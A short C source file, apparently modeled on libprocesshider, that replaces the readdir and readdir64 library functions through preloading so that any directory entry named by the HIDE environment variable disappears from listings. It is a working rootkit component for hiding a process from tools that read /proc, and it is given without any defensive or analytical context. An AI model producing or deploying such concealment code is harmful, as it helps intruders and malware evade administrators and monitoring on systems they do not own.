/* As libprocesshider does it: a preloaded readdir that leaves out one process, named by HIDE. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdlib.h>
#include <string.h>

struct dirent *readdir(DIR *folder) {
    static struct dirent *(*original)(DIR *);
    const char *hidden = getenv("HIDE");
    struct dirent *found;
    if (!original) original = dlsym(RTLD_NEXT, "readdir");
    do found = original(folder);
    while (found && hidden && !strcmp(found->d_name, hidden));
    return found;
}
struct dirent64 *readdir64(DIR *folder) {
    static struct dirent64 *(*original)(DIR *);
    const char *hidden = getenv("HIDE");
    struct dirent64 *found;
    if (!original) original = dlsym(RTLD_NEXT, "readdir64");
    do found = original(folder);
    while (found && hidden && !strcmp(found->d_name, hidden));
    return found;
}
